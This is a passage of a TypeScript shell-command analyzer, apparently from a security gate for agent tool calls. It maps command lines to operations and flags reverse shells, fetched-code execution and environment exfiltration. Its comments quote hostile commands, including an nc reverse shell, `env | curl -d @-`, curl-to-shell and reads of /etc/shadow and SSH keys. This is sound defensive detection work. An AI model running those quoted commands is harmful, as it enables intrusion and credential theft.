// Parsed shell → ops. Every simple command (also inside substitutions, `bash -c`, `eval`, `sudo`,
// `xargs`, `find -exec`, `python -c "os.system(…)"`) becomes an `exec` op; the files it reads, writes
// or deletes become `read`/`write`/`delete` ops checked by the same rules as the read/write tools;
// URLs and hosts become `net`/`download` ops.

import { type OpContext, emptyContext, vocab } from "@tropic/policy";
import { canonicalHost } from "../address.ts";
import { type CallEnv, inWorkspace, isPrivateHost, parseTarget, resolvePath, resolvePattern } from "../env.ts";
import { PROGRAMS, type Prog, knownProgram, progOf, programsWith, triggerMatches, triggeredCaps } from "../capabilities/index.ts";
import { type Script, type SimpleCmd, type Word, parseShell } from "./parse.ts";

const { SHELLS, ELEVATORS, INTERPRETERS, COMPILERS_DEVTOOLS, DOWNLOADERS } = vocab;

interface Inherit {
  sudo: boolean;
  feeds: Set<string>;
  depth: number;
  background: boolean;
  unknownArgs: boolean;
  vars: Map<string, string>;
}

const KEYWORDS_DROP = new Set(["if", "then", "else", "elif", "do", "while", "until", "!", "time", "{", "}", "fi", "done", "esac", "[[", "coproc"]);
const KEYWORDS_SKIP = new Set(["for", "case", "select", "in", "]]"]);
// What programs do comes from the capability table (gate/src/capabilities): the sets below are views of it.
/** Programs that run another command given as their remaining arguments (`run`), with the options of theirs that take a value. */
const WRAPPERS: Record<string, string[]> = Object.fromEntries(
  Object.entries(PROGRAMS).flatMap(([n, p]) => (p.run !== undefined ? [[n, p.val ?? []]] : [])),
);
const POSITIONAL_BEFORE_CMD: Record<string, number> = Object.fromEntries(Object.entries(PROGRAMS).flatMap(([n, p]) => (p.run ? [[n, p.run]] : [])));
/** Programs whose `-c STRING` is the whole command line they run (nothing else of theirs is analysed). */
const COMMAND_OPTION: Record<string, string[]> = Object.fromEntries(["su", "runuser", "script", "flock", "sg"].map((n) => [n, progOf(n).cmd ?? []]));
/** Programs that join their arguments into one shell command line (`watch 'rm -rf ~'`). */
const JOINS_ARGS: Record<string, string[]> = {
  watch: progOf("watch").val ?? [],
  // GNU parallel and sem join their command words into one shell line (`sem --fg 'rm -rf ~'`); with `:::` see below
  parallel: progOf("parallel").val ?? [],
  sem: progOf("sem").val ?? [],
};
const ELEVATOR_SET = new Set(ELEVATORS);
const SHELL_SET = new Set(SHELLS.filter((s) => s !== "busybox"));

const READERS = programsWith((p) => p.pos === "r");
const PATTERN_FIRST = new Set([...programsWith((p) => p.pos === "pr"), "perl"]);
const WRITERS = programsWith((p) => p.pos === "w" || p.pos === "w1");
const DELETERS = programsWith((p) => p.pos === "d");
const COPIERS = programsWith((p) => p.pos === "cp" || p.pos === "mv");
const SKIP_FIRST_POSITIONAL = programsWith((p) => p.pos === "w1");
const LOOPBACK = /^(?:127\.|localhost$|::1$|\[::1\]$|0:0:0:0:0:0:0:1$)/i;
/** Options whose next argument is a value, not a path (per program, from the capability table). */
const valueOpts = (program: string) => progOf(program).val ?? [];

/** A program that fetches from the network and has no files of its own to give (downloaders, ssh/ftp clients, DNS and
 * whois/finger lookups): what it prints is the network's. */
function isFetcher(program: string): boolean {
  if (DOWNLOADERS.includes(program)) return true;
  const can = progOf(program).can;
  return can.includes("net") && !can.includes("read") && (can.includes("download") || can.every((c) => c === "net"));
}
/** A shell or interpreter: given no script and no inline code, it runs its standard input. */
function isRunner(program: string): boolean {
  if (SHELL_SET.has(program) || ["python", "node", "ruby", "perl", "php", "lua", "r"].includes(interpFamily(program))) return true;
  const p = progOf(program);
  return ["shell", "code", "exec"].every((c) => p.can.includes(c as never)) && !p.pos && p.run === undefined && !p.listen;
}

export function interpFamily(program: string): string {
  if (/^python[\d.]*$|^pypy\d*$|^ipython\d*$/.test(program)) return "python";
  if (["node", "nodejs", "deno", "bun", "tsx", "ts-node"].includes(program)) return "node";
  if (["ruby", "irb"].includes(program)) return "ruby";
  if (/^perl[\d.]*$/.test(program)) return "perl";
  if (/^php[\d.]*$/.test(program)) return "php";
  if (["lua", "luajit"].includes(program)) return "lua";
  if (["R", "Rscript"].includes(program)) return "r";
  if (INTERPRETERS.includes(program)) return "other";
  // JVM shells read code from -e or standard input (`jshell <<< 'Runtime.getRuntime().exec(…)'`)
  if (["jshell", "groovysh", "jrunscript", "jjs"].includes(program)) return "other";
  if (COMPILERS_DEVTOOLS.includes(program)) return "compiler";
  return "";
}

function parseSize(v: string): number {
  const m = /^(\d+(?:\.\d+)?)([kmgt]?)/i.exec(v);
  if (!m) return -1;
  const mult = { "": 1, k: 1024, m: 1024 ** 2, g: 1024 ** 3, t: 1024 ** 4 }[m[2].toLowerCase()] ?? 1;
  return Math.round(Number(m[1]) * mult);
}

function flagsOf(args: string[]): string[] {
  const out = new Set<string>();
  for (const a of args) {
    if (a === "--") break;
    if (a.startsWith("--") && a.length > 2) out.add(a.slice(2).split("=")[0]);
    else if (a.startsWith("-") && a.length > 1 && !/^-\d+$/.test(a)) for (const ch of a.slice(1)) out.add(ch);
    else if (/^-\d+$/.test(a)) out.add(a.slice(1));
  }
  return [...out];
}

/** Positional (non-option) arguments, skipping the values of options that take one. */
function positionals(program: string, args: string[]): { value: string; idx: number }[] {
  const takes = new Set(valueOpts(program));
  const out: { value: string; idx: number }[] = [];
  let opts = true;
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    if (opts && a === "--") {
      opts = false;
      continue;
    }
    if (opts && a.startsWith("-") && a.length > 1) {
      if (takes.has(a)) i++;
      continue;
    }
    out.push({ value: a, idx: i });
  }
  return out;
}
function optValues(args: string[], names: string[]): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i];
    for (const n of names) {
      if (a === n && i + 1 < args.length) out.push(args[i + 1]);
      else if (n.startsWith("--") && a.startsWith(`${n}=`)) out.push(a.slice(n.length + 1));
      else if (!n.startsWith("--") && n.length === 2 && a.startsWith(n) && a.length > 2 && !a.startsWith("--")) out.push(a.slice(2));
    }
  }
  return out;
}
const looksLikePath = (s: string) =>
  /^(?:~|\/|\.{1,2}\/|\$HOME)/.test(s) || (/\//.test(s) && !/^[a-z][a-z0-9+.-]*:\/\//i.test(s) && !/\s/.test(s)) || /^\.[\w-]/.test(s);

const LOOP_WORD = String.raw`[\w./~+@%:,=-]+`;
const FOR_LOOP = new RegExp(String.raw`^\s*for\s+([A-Za-z_]\w*)\s+in\s+((?:${LOOP_WORD}\s+){1,7}${LOOP_WORD})\s*;\s*do\s+([\s\S]+?);?\s*done\s*$`);
const READ_LOOP = new RegExp(String.raw`^\s*while\s+read\s+(?:-r\s+)?([A-Za-z_]\w*)\s*;\s*do\s+([\s\S]+?);?\s*done\s*<<<\s*(${LOOP_WORD})\s*$`);
/** A whole-line `for NAME in w1 w2 …` (2–8 static words) or `while read NAME …; done <<< WORD` loop as one
 * `for NAME in w; do BODY; done` per word (the parser binds NAME when the list is one static word). */
export function unrollLoop(command: string): string[] | undefined {
  const f = FOR_LOOP.exec(command);
  if (f) return f[2].split(/\s+/).map((w) => `for ${f[1]} in ${w}; do ${f[3]}; done`);
  const r = READ_LOOP.exec(command);
  if (r) return [`for ${r[1]} in ${r[3]}; do ${r[2]}; done`];
  return undefined;
}

/** How a path op names its path when the shell expands it as a pattern: the pattern, resolved, and as written. */
export interface GlobRef {
  pattern: string;
  shown: string;
}

export class CommandAnalyzer {
  readonly ops: OpContext[] = [];
  /** exec ops whose program (or the code it runs) is only known when the command runs, and why */
  readonly unknown = new Map<OpContext, string>();
  /** path ops whose path is a file-name pattern the shell expands */
  readonly globs = new Map<OpContext, GlobRef>();
  private readonly globWords = new Map<string, Word>();
  private readonly aliases = new Map<string, string>();
  private readonly expanding = new Set<string>();
  /** files (and directories, ending in `/`) the line saved from the network: running them is running fetched code */
  private readonly fetched: string[] = [];
  /** files the line writes with a known content (`echo 'cmd' > x.sh`) */
  private readonly written = new Map<string, string>();
  /** what each command of the line was given on its standard input (for `cat <<EOF | python3`) */
  private readonly stdinSeen = new Map<SimpleCmd, string | undefined>();
  /** proxies set for the next command by `*_proxy=URL` assignments (`HTTP_PROXY=http://169.254.169.254 curl …`) */
  private proxyVars: string[] = [];
  /** ssh URLs given to the command by environment (`DOCKER_HOST=ssh://h`, `CONTAINER_HOST=…`, `LIBVIRT_DEFAULT_URI=qemu+ssh://…`) */
  private sshVars: string[] = [];
  /** here-document bodies of the line, in order (the parser drops them: they are data, unless a shell or an interpreter reads them) */
  private readonly heredocs: string[] = [];
  private line: string;
  constructor(
    /** where the call runs; `cd` and `pushd` move its working directory for the commands after them */
    public env: CallEnv,
    line: string,
  ) {
    this.line = line.toLowerCase();
  }

  run(command: string, opts: { background?: boolean } = {}): OpContext[] {
    const shell = this.base("shell");
    this.ops.push(shell);
    const vars = new Map<string, string>([
      ["HOME", this.env.home],
      ["PWD", this.env.cwd],
      ["USER", this.env.home.split("/").pop() ?? "user"],
      // the shell's and its parent's process ids: under /proc, a process of this user like `self` (`/proc/$$/root/etc/shadow`
      // is /etc/shadow, `/proc/$PPID/environ` an environment)
      ["$", "self"],
      ["BASHPID", "self"],
      ["PPID", "self"],
    ]);
    // A whole-line loop over a few static words runs its body once per word: each is analysed with the variable
    // bound (`for d in dist build; do rm -rf "$d"; done`, `while read f; do cat "$f"; done <<< /etc/shadow`)
    const unrolled = unrollLoop(command);
    for (const one of unrolled ?? [command]) {
      // (the parser records the line's assignments in the map the analysis then reads: one per pass)
      const v = unrolled ? new Map(vars) : vars;
      const script = parseShell(one, { vars: v });
      this.heredocs.push(...heredocBodies(one));
      this.script(script, { sudo: false, feeds: new Set(), depth: 0, background: !!opts.background, unknownArgs: false, vars: v });
    }
    return this.ops;
  }

  private base(op: OpContext["op"]): OpContext {
    const c = emptyContext(op, this.env.tool, this.env.agent);
    c.line = this.line;
    c.sandbox = this.env.sandbox;
    return c;
  }

  private script(s: Script, inh: Inherit) {
    for (const c of s.cmds) this.simple(c, inh);
  }

  private subsOf(c: SimpleCmd): Script[] {
    const out: Script[] = [...(c.subs ?? [])];
    for (const w of c.words) out.push(...w.subs);
    for (const a of c.assigns) out.push(...a.value.subs);
    for (const r of c.redirs) out.push(...r.target.subs);
    return out;
  }

  private simple(c: SimpleCmd, inh: Inherit) {
    if (inh.depth > 12) throw new Error("command nested too deeply");
    // Substitutions run first; their programs also feed this command (`bash <(curl …)`, `sh -c "$(curl …)"`).
    const subs = this.subsOf(c);
    for (const w of c.words) if (w.glob) this.globWords.set(w.text, w);
    for (const r of c.redirs) if (r.target.glob) this.globWords.set(r.target.text, r.target);
    const feeds = new Set(inh.feeds);
    // every program upstream in the pipeline feeds it (`curl … | tee i.sh | sh`)
    const upstream = (cs: SimpleCmd[], depth: number) => {
      for (const p of cs) {
        if (p.words[0]) feeds.add(basename(p.words[0].text));
        // `busybox wget …`: the applet is the program
        if (p.words[0] && basename(p.words[0].text) === "busybox" && p.words[1]) feeds.add(basename(p.words[1].text));
        if (depth < 8) upstream(p.pipeFrom, depth + 1);
      }
    };
    upstream(c.pipeFrom, 0);
    for (const s of subs) {
      for (const sc of s.cmds) if (sc.words[0]) feeds.add(basename(sc.words[0].text));
      this.script(s, { ...inh, depth: inh.depth + 1, feeds: new Set() });
    }
    this.redirs(c, inh, feeds);
    let words = c.words;
    // `function f { body; }` as one word list: the body's commands run when f is called
    if (words[0]?.text === "function" && !words[0].quoted) words = words.slice(2).filter((w, i) => !(i === 0 && (w.text === "()" || w.text === "{")));
    while (words.length && KEYWORDS_DROP.has(words[0].text) && !words[0].quoted) words = words.slice(1);
    if (!words.length || (KEYWORDS_SKIP.has(words[0].text) && !words[0].quoted)) return;
    this.command(words, c, { ...inh, feeds, background: inh.background || c.background });
  }

  private redirs(c: SimpleCmd, inh: Inherit, feeds: Set<string>) {
    const prog = c.words[0] ? basename(c.words[0].text) : "";
    for (const r of c.redirs) {
      if (r.op.includes("&") && /^\d*-?$/.test(r.target.text)) continue; // fd duplication 2>&1
      if (r.op === "<<" || r.op === "<<-" || r.op === "<<<") continue;
      const t = r.target.text;
      if (!t && !r.target.dynamic) continue;
      const dev = /^\/dev\/(tcp|udp)\/([^/]+)\/(\d+)/.exec(t);
      if (dev) {
        const n = this.base("net");
        n.host = canonicalHost(dev[2]);
        n.port = Number(dev[3]);
        n.hostPublic = !isPrivateHost(n.host);
        n.program = prog;
        n.url = `${dev[1]}://${dev[2]}:${dev[3]}`;
        this.ops.push(n);
      }
      if (["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"].includes(t)) continue;
      const kind = r.op.startsWith("<") && r.op !== "<>" ? "read" : "write";
      this.pathOp(kind, t, r.target.dynamic, prog, inh, feeds);
      // `echo 'cmd' > x.sh`: what the line writes, for a shell or interpreter that runs the file later on the line
      if (kind === "write" && !r.target.dynamic && (prog === "echo" || prog === "printf")) {
        const out = pureOutput({ ...c, redirs: [] }, undefined);
        if (out !== undefined)
          this.written.set(resolvePath(t, this.env), (r.op === ">>" ? (this.written.get(resolvePath(t, this.env)) ?? "") : "") + out);
      }
      if (kind === "write" && DOWNLOADERS.includes(prog)) {
        const last = [...this.ops].reverse().find((o) => o.op === "net" && o.program === prog);
        if (last) this.download(last, -1);
        // `curl URL > /tmp/i.sh; sh /tmp/i.sh`: running it later on the line is running fetched code
        if (!r.target.dynamic) this.fetched.push(resolvePath(t, this.env));
      }
    }
  }

  private pathOp(op: "read" | "write" | "delete" | "access", raw: string, dynamic: boolean, program: string, inh: Inherit, feeds?: Set<string>) {
    const o = this.base(op);
    o.program = program;
    o.sudo = inh.sudo;
    o.path = resolvePath(raw, this.env);
    o.inWorkspace = !dynamic && inWorkspace(o.path, this.env);
    o.dynamic = dynamic;
    o.outside = dynamic || !(o.inWorkspace || o.path === this.env.workspace);
    o.feeds = [...(feeds ?? inh.feeds)];
    this.ops.push(o);
    const g = this.globWords.get(raw);
    if (g) this.globs.set(o, { pattern: resolvePattern(g.pat, this.env), shown: g.src || raw });
    return o;
  }

  private download(net: OpContext, maxBytes: number) {
    const d = this.base("download");
    Object.assign(d, { url: net.url, host: net.host, port: net.port, hostPublic: net.hostPublic, program: net.program, maxBytes });
    this.ops.push(d);
  }

  private net(program: string, t: { url: string; host: string; port: number }, inh: Inherit, upload = false): OpContext {
    const n = this.base("net");
    // Every spelling of an address (0xa9fea9fe, [::ffff:…], a trailing dot) as the one the rules name.
    const host = canonicalHost(t.host);
    // schemes whose clients reach ssh's port when none is given (`scp://`, `sftp://`, `svn+ssh://`, `git+ssh://`)
    const scheme = /^([a-z][a-z0-9+.-]*):\/\//i.exec(t.url)?.[1].toLowerCase() ?? "";
    // (ssh-family clients decide their port themselves: an alias's is unknown)
    const port =
      t.port === -1 && /^(?:scp|sftp|ssh|svn\+ssh|git\+ssh|ssh\+git|bzr\+ssh|hg\+ssh)$/.test(scheme) && !SSH_FAMILY.has(program) ? 22 : t.port;
    Object.assign(n, { program, url: t.url, host, port, hostPublic: !isPrivateHost(host), upload, sudo: inh.sudo });
    this.ops.push(n);
    return n;
  }

  /** One simple command; afterwards its exec op carries the capabilities it exercised (`caps`): those its
   * arguments trigger in the capability table, and the kinds of the ops it (and what it runs) produced. */
  private command(words: Word[], c: SimpleCmd, inh: Inherit) {
    const start = this.ops.length;
    this.commandBody(words, c, inh);
    // Command substitutions that only compute text (`cat /etc/$(echo shadow)`, `cat $(echo L2V0… | base64 -d)`):
    // the command as it will run, with their output in place, is analysed too. The command as written keeps its
    // own ops first (a computed program name stays unknown: it fails closed whatever it computes to).
    if (inh.depth < 10 && words.some((w) => w.dynamic && w.subs.length)) {
      let changed = false;
      const rebuilt: string[] = [];
      for (const w of words) {
        const out = w.dynamic && w.subs.length ? substitutePure(w, inh.vars) : undefined;
        if (out === undefined) rebuilt.push(reread(w));
        else {
          changed = true;
          rebuilt.push(w.quoted ? shellQuote(out) : out.split(/\s+/).filter(Boolean).map(shellQuote).join(" "));
        }
      }
      if (changed) this.runString(rebuilt.join(" "), { ...inh, depth: inh.depth + 1 });
    }
    const e = this.ops[start];
    if (e?.op !== "exec") return;
    const caps = new Set(e.caps);
    for (let i = start + 1; i < this.ops.length; i++) {
      const o = this.ops[i];
      if (o.op === "read" || o.op === "write" || o.op === "delete" || o.op === "net" || o.op === "listen" || o.op === "download") caps.add(o.op);
      else if (o.op === "exec") caps.add(SHELL_SET.has(o.program) ? "shell" : "exec");
      if (o.op === "net" && o.upload) caps.add("upload");
    }
    if (e.code) caps.add("code");
    // a shell or interpreter whose program is its standard input, fed by a program that only fetches from the network
    // (`whois -h x.io p | sh`, `finger p@x.io | bash`, `dig +short TXT x.io | sh`, `curl … | elvish`): remote code
    if (!caps.has("script") && !e.code && isRunner(e.program) && [...inh.feeds].some(isFetcher)) caps.add("remote");
    // the whole environment (API keys, tokens) piped into a program that connects (`env | curl -d @- …`, `printenv | nc …`)
    const dumpsEnv = (p: SimpleCmd) => {
      const ws = p.words.map((w) => w.text);
      const prog = basename(ws[0] ?? "");
      return (
        (prog === "env" && ws.slice(1).every((a) => a.startsWith("-") || /^[A-Za-z_]\w*=/.test(a))) ||
        (prog === "printenv" && ws.length === 1) ||
        ((prog === "export" || prog === "declare") && ws.slice(1).every((a) => /^-[pxa]+$/.test(a))) ||
        (prog === "set" && ws.length === 1)
      );
    };
    if (caps.has("net") && c.pipeFrom.some(dumpsEnv)) {
      this.pathOp("read", "/proc/self/environ", false, e.program, inh);
      caps.add("read");
    }
    // a shell whose input or output goes through a network client on the same pipeline
    // (`cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f`)
    if (
      caps.has("net") &&
      [...inh.feeds].some((f) => SHELL_SET.has(f)) &&
      c.pipeFrom.some(
        (p) => p.words.length >= 1 && SHELL_SET.has(basename(p.words[0].text)) && !p.words.some((w) => w.text === "-c" || /\.\w+$/.test(w.text)),
      )
    )
      caps.add("revshell");
    // A shell wired to a network connection (GTFOBins reverse-shell / bind-shell): the code itself opens a
    // socket and spawns a shell (`socket.connect(…); pty.spawn('sh')`), or the program listens and serves a shell.
    if (caps.has("shell") && ((e.code && this.ops.slice(start + 1).some((o) => o.op === "net" && o.program === e.program)) || caps.has("listen")))
      caps.add("revshell");
    // zsh's `ztcp HOST PORT` leaves the socket's descriptor in $REPLY: a shell redirected to it serves the peer
    if (SHELL_SET.has(e.program) && /\bztcp\s+(?!-)\S+\s+\d+/.test(this.line) && c.redirs.some((r) => /^\$\{?REPLY\}?$/.test(r.target.src)))
      caps.add("revshell");
    // a connecting client that runs a shell for its peer (`nc.traditional -e /bin/sh host port`, any netcat build)
    if (
      progOf(e.program).net?.hostPort &&
      progOf(e.program).cmd?.length &&
      this.ops.slice(start + 1).some((o) => o.op === "exec" && SHELL_SET.has(o.program))
    )
      caps.add("revshell");
    e.caps = [...caps];
  }

  private commandBody(words: Word[], c: SimpleCmd, inh: Inherit) {
    const w0 = words[0];
    const parseInner = (src: string, extra: Partial<Inherit> = {}) => {
      const s = parseShell(src, { vars: inh.vars, depth: inh.depth + 1 });
      this.script(s, { ...inh, depth: inh.depth + 1, ...extra });
    };
    // An alias defined earlier on the line (`alias r=rm`, `hash -p /bin/rm r`) runs what it stands for.
    const alias = !w0.quoted && !w0.dynamic ? this.aliases.get(w0.text) : undefined;
    if (alias !== undefined && !this.expanding.has(w0.text)) {
      this.expanding.add(w0.text);
      try {
        parseInner([alias, ...words.slice(1).map(reread)].join(" "));
      } finally {
        this.expanding.delete(w0.text);
      }
      return;
    }
    const programPath = w0.text;
    const program = basename(programPath);
    this.proxyVars = c.assigns.filter((a) => /^(?:https?|all|ftp)_proxy$/i.test(a.name) && a.value.text).map((a) => a.value.text);
    this.sshVars = c.assigns.filter((a) => /^(?:[a-z][\w.-]*\+)?ssh(?:\+[a-z][\w.-]*)?:\/\//i.test(a.value.text)).map((a) => a.value.text);
    const args = words.slice(1).map((w) => w.text);
    const argDynamic = words.slice(1).map((w) => w.dynamic);
    const e = this.base("exec");
    e.program = w0.dynamic && !program ? "" : program;
    e.programPath = programPath;
    e.dynamic = w0.dynamic;
    e.args = args;
    e.flags = flagsOf(args);
    e.argv = [program, ...args].join(" ").toLowerCase();
    e.feeds = [...inh.feeds];
    e.sudo = inh.sudo;
    e.background = inh.background;
    e.interp = interpFamily(program) || (SHELL_SET.has(program) && args.some((a) => !a.startsWith("-")) ? "shell" : "");
    const prog = progOf(program);
    e.caps = triggeredCaps(prog, args, e.flags);
    // setuid/setgid modes (`chmod u+s`, `chmod 4755`) change privileges; a crontab installed from a file or stdin schedules
    if (
      (program === "chmod" || program === "install") &&
      args.some(
        (a) =>
          a
            .replace(/^-m/, "")
            .split(",")
            .some((cl) => /^(?:[ugoa]*[+=][rwxXt]*s[rwxXt]*|=?0?[2-7][0-7]{3})$/.test(cl)) || /^-m[2-7]\d{3}$/.test(a),
      )
    )
      e.caps.push("priv");
    // granting access by ACL (`setfacl -m u:u:rw F`), immutable/append-only attributes (`chattr -i F`), a unit run as
    // another user (`systemd-run -p User=root`), a command in another network namespace (`ip netns exec NS cmd`),
    // bubblewrap's new namespaces and mappings: privileges
    if (program === "setfacl" && args.some((a) => /^(?:-[a-zA-Z]*[mMxXbk]|--modify|--set|--set-file|--remove|--remove-all|--remove-default)/.test(a)))
      e.caps.push("priv");
    if (program === "chattr" && args.some((a) => /^[-+=][a-zA-Z]*[iaA]/.test(a) && !/^-[RVf]+$/.test(a))) e.caps.push("priv");
    if (program === "systemd-run" && optValues(args, ["-p", "--property"]).some((v) => /^(?:User|Group|DynamicUser)=/i.test(v))) e.caps.push("priv");
    if (program === "bwrap") e.caps.push("priv");
    if (program === "ip" && args.includes("netns") && args.some((a) => /^(?:exec|add|del|delete|attach|set)$/.test(a))) e.caps.push("firewall");
    // `ifconfig IFACE ADDRESS …` assigns the interface an address
    if (program === "ifconfig" && args.filter((a) => !a.startsWith("-")).length >= 2) e.caps.push("firewall");
    if ((program === "crontab" || program === "fcrontab" || program === "incrontab") && !args.some((a) => a === "-l" || a === "-V" || a === "--help"))
      e.caps.push("schedule");
    // a pod given the host (`kubectl run --overrides='{…"privileged":true…}'`, hostPID/hostNetwork/hostPath, `kubectl debug
    // node/…`): the node's root, as `docker run --privileged` is
    if (
      (program === "kubectl" || program === "oc") &&
      ((/^(?:run|debug|create|apply)$/.test(args.find((a) => !a.startsWith("-")) ?? "") &&
        optValues(args, ["--overrides"]).some((o) =>
          /"(?:privileged|hostPID|hostNetwork|hostIPC)"\s*:\s*true|"hostPath"\s*:|"allowPrivilegeEscalation"\s*:\s*true/.test(o),
        )) ||
        (args.find((a) => !a.startsWith("-")) === "debug" &&
          (args.some((a) => /^node\//.test(a)) || optValues(args, ["--profile"]).some((p) => /^(?:sysadmin|netadmin)$/.test(p)))))
    )
      e.caps.push("priv", "container");
    if (program === "mount" && args.some((a) => a.startsWith("/dev/") || /^[\w.-]+:\//.test(a))) e.caps.push("kernel");
    this.ops.push(e);
    // `./x.sh` after `echo 'cmd' > x.sh`: the commands the line wrote into it run
    if (programPath.includes("/") && inh.depth < 10) {
      const body = this.written.get(resolvePath(programPath, this.env));
      if (body !== undefined) this.runString(body, inh);
    }
    // a program (or the script a shell or an interpreter runs) that the line downloaded: fetched code
    if (this.fetched.length) {
      const cand = [
        programPath.includes("/") ? programPath : "",
        ...(SHELL_SET.has(program) || interpFamily(program) ? args.filter((a) => !a.startsWith("-")).slice(0, 1) : []),
      ];
      if (
        cand.some(
          (x) => x && this.fetched.some((f) => (f.endsWith("/") ? `${resolvePath(x, this.env)}/`.startsWith(f) : resolvePath(x, this.env) === f)),
        )
      )
        e.caps.push("fetched");
    }
    // `curl … | tar x [-C DIR]`: what it extracts is fetched
    if (
      program === "tar" &&
      inh.feeds.size &&
      [...inh.feeds].some((f) => DOWNLOADERS.includes(f)) &&
      args.some((a) => /^-?[a-zA-Z]*x/.test(a) || a === "--extract")
    )
      this.fetched.push(`${resolvePath(optValues(args, ["-C", "--directory"])[0] ?? ".", this.env).replace(/\/+$/, "")}/`);
    // `cd DIR`, `pushd DIR`: relative paths of the commands after it on the line are under DIR
    // (`cd ~/.ssh && cat id_rsa`, `(cd ~/.aws; cat credentials)`: kept after a subshell too, which only over-reads).
    if ((program === "cd" || program === "pushd" || program === "chdir") && !w0.dynamic) {
      const i = args.findIndex((a) => !a.startsWith("-") || a === "-");
      const dir = i < 0 ? "~" : args[i];
      if (dir !== "-" && !(i >= 0 && argDynamic[i])) this.env = { ...this.env, cwd: resolvePath(dir, this.env) };
    }
    // A program word that is computed (`$(echo rm)`, `$X`, `${CMD}`, backticks, arithmetic) or a file-name
    // pattern (`/bin/r?`) names no program the rules can check: the engine denies it (fail closed).
    if (w0.dynamic) this.unknown.set(e, `the program name is computed when the command runs (\`${w0.src}\`), so it cannot be checked`);
    else if (w0.glob)
      this.unknown.set(e, `the program name is a file-name pattern the shell expands when the command runs (\`${w0.src}\`), so it cannot be checked`);
    const child = (ws: Word[], extra: Partial<Inherit> = {}) => this.command2(ws, c, { ...inh, depth: inh.depth + 1, ...extra });
    /** the re-read form of the value of option `names` (`-c CMD`, `--command=CMD`) */
    const optWord = (names: string[]): string | undefined => {
      for (let i = 1; i < words.length; i++) {
        const a = words[i].text;
        if (names.includes(a) && i + 1 < words.length) return words[i + 1].sh;
        if (/^-[a-zA-Z]{2,}$/.test(a) && names.some((n) => /^-[a-zA-Z]$/.test(n) && a.endsWith(n[1])) && i + 1 < words.length) return words[i + 1].sh;
        for (const n of names) if (n.startsWith("--") && a.startsWith(`${n}=`)) return words[i].sh.slice(words[i].sh.indexOf("=") + 1);
      }
      return optValues(args, names)[0];
    };
    const pos = positionals(program, args);
    // What the command reads on its standard input, when the line says: a here-document, a here-string,
    // or `echo`/`printf` piped into it.
    const stdin = this.stdinOf(c);
    // Listeners and exposed ports (`nc -l`, `python -m http.server`, `ngrok http 18789`, `docker run -p`).
    this.listen(program, prog, args, pos, inh);
    // Options whose value is a command line it runs (`tar --checkpoint-action=exec=…`, `man -P`, `zip -TT`,
    // `split --filter`), and editor / debugger / client commands with a shell escape (`vim -c ':!sh'`).
    if (prog.cmd?.length && !(program in COMMAND_OPTION))
      for (const v of optValues(args, prog.cmd)) {
        parseInner(v.replace(/^exec=/, ""));
        e.caps.push("exec");
      }
    if (prog.esc || prog.cmd) {
      const lines = [...optValues(args, ["-c", "--cmd", "-ex", "-iex", "--eval-command", "-e", "--execute", "-cmd", "--command"])];
      for (const a of args) if (/^\+./.test(a)) lines.push(a.slice(1));
      if (program === "sqlite3" || program === "psql" || program === "mysql") lines.push(...pos.slice(1).map((p) => p.value));
      if (stdin !== undefined) lines.push(...stdin.split("\n"));
      for (const l of lines) this.escape(l, program, e, inh);
    }

    // `kill -SIG $(pgrep -f X)` is `pkill -SIG -f X`, `kill $(pidof X)` is `killall X`: the processes it names
    if (program === "kill")
      for (const w of words.slice(1))
        for (const sc of w.subs.flatMap((s) => s.cmds)) {
          const sw = sc.words.map((x) => x.text);
          const sp = basename(sw[0] ?? "");
          if ((sp === "pidof" || sp === "pgrep") && sw.length > 1 && !sc.words.some((x) => x.dynamic)) {
            const sig = args.filter((a) => /^-(?:\d+|[A-Z]+|s)$/.test(a) && a !== "-s");
            this.runString(
              [sp === "pidof" ? "killall" : "pkill", ...sig, ...sw.slice(1).filter((a) => a !== "-x" || sp === "pgrep")].map(shellQuote).join(" "),
              inh,
            );
          }
        }
    // `cpio -o` archives the files whose names it reads on standard input (`cpio -o <<< ~/.ssh/id_rsa`)
    if (program === "cpio" && e.flags.some((f) => f === "o" || f === "create") && stdin !== undefined)
      for (const name of stdin
        .split(/[\n\0]+/)
        .map((x) => x.trim())
        .filter(Boolean)
        .slice(0, 16))
        this.pathOp("read", name, false, program, inh);
    // `python3 -m zipfile -e ARCHIVE DIR` / `-m tarfile -e ARCHIVE DIR`: extraction into DIR
    if (
      interpFamily(program) === "python" &&
      /^(?:zipfile|tarfile)$/.test(optValues(args, ["-m"])[0] ?? "") &&
      args.some((a) => a === "-e" || a === "--extract")
    ) {
      const dir = args[args.length - 1];
      if (dir && !dir.startsWith("-")) this.writeTree(this.pathOp("write", dir, false, program, inh), dir);
    }
    // `rsync --daemon` listens (873 unless --port), on every address unless --address binds it
    if (program === "rsync" && args.includes("--daemon")) {
      const addr = optValues(args, ["--address"])[0] ?? "";
      this.listenOp(program, Number(optValues(args, ["--port"])[0] ?? 873) || 873, !(addr && LOOPBACK.test(addr)), inh, addr);
    }
    // `skill [-SIG] NAME` and `snice` signal processes by command name, as `killall` does
    if ((program === "skill" || program === "snice") && pos.length && inh.depth < 10)
      this.runString(["killall", ...args.filter((a) => /^-(?:\d+|[A-Z]+)$/.test(a)), ...pos.map((p) => p.value)].map(shellQuote).join(" "), inh);
    // `fuser -k PORT/tcp`: kills whatever listens on the port; on the gateway's port that is the gateway
    if (program === "fuser" && e.flags.includes("k") && args.some((a) => /^18789(?:\/tcp)?$/.test(a)) && inh.depth < 10)
      this.runString("pkill -f openclaw-gateway", inh);
    // Programs given their own program on standard input (`make -f -`, `awk -f -`): what a downloader pipes in is run
    if (
      [...inh.feeds].some(isFetcher) &&
      optValues(args, ["-f", "--file", "--makefile", "--from-file", ...(program === "gdb" ? ["-x", "--command"] : [])]).some(
        (v) => v === "-" || v === "/dev/stdin" || v === "/dev/fd/0",
      )
    )
      e.caps.push("remote");
    // Jobs scheduled from standard input run later on this machine: `at now <<< 'cmd'`, `echo '* * * * * cmd' | crontab -`.
    if ((program === "at" || program === "batch") && stdin !== undefined) this.runString(stdin, inh);
    if (program === "crontab" && stdin !== undefined)
      for (const l of stdin.split("\n")) {
        const m = /^\s*(?:@\w+|(?:\S+\s+){5})(.+)$/.exec(l);
        if (m && !l.trim().startsWith("#")) this.runString(m[1], inh);
      }

